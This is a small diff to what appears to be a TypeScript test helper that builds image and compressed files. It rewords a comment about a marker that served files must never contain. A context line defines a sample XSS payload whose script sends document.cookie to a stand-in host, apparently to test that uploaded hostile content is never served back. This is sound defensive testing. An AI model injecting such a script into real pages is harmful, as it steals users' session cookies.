@@ -2,7 +2,9 @@ import { randomBytes } from 'node:crypto';
 import { crc32, deflateSync, gzipSync } from 'node:zlib';
 import sharp from 'sharp';
 
-/** What a stranger's file carries, and no file that the site sends may: found in none of its bytes. */
+/**
+ * A mark that a stranger's file carries, and that no file sent by the site may have anywhere in its bytes.
+ */
 export const mark = 'windfall-hostile-mark';
 const script = `<script>/* ${mark} */fetch('https://example.org/'+document.cookie)</script>`;
 
